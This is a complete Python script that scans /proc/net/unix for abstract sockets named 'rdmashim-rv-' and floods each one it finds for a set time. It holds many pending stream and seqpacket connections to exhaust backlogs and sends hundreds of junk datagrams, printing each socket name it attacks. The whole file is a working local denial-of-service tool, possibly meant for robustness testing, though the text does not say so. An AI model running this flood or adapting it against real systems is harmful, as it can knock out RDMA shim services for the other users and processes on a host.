#!/usr/bin/python3
"""Floods every rdmashim rendezvous socket it sees in /proc/net/unix, as
whoever runs it, for SECONDS: stream connections left pending (enough to fill
any small backlog) and junk datagrams. Prints each name it attacked."""
import os, socket, sys, time

seconds = float(sys.argv[1])
seen, held = set(), []
junk = [os.urandom(32), bytes(32), os.urandom(64)]
end = time.time() + seconds
while time.time() < end:
    with open("/proc/net/unix") as f:
        names = {l.split()[-1][1:] for l in f if "@rdmashim-rv-" in l}
    for name in names - seen:
        seen.add(name)
        print(name, flush=True)
        addr = "\0" + name
        for _ in range(16):
            for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
                s = socket.socket(socket.AF_UNIX, kind)
                s.setblocking(False)
                try:
                    s.connect(addr)
                except OSError:
                    pass
                held.append(s)
        d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        d.setblocking(False)
        for i in range(600):
            try:
                d.sendto(junk[i % 3], addr)
            except OSError:
                break
        d.close()
    while len(held) > 800:
        held.pop(0).close()
    time.sleep(0.0005)
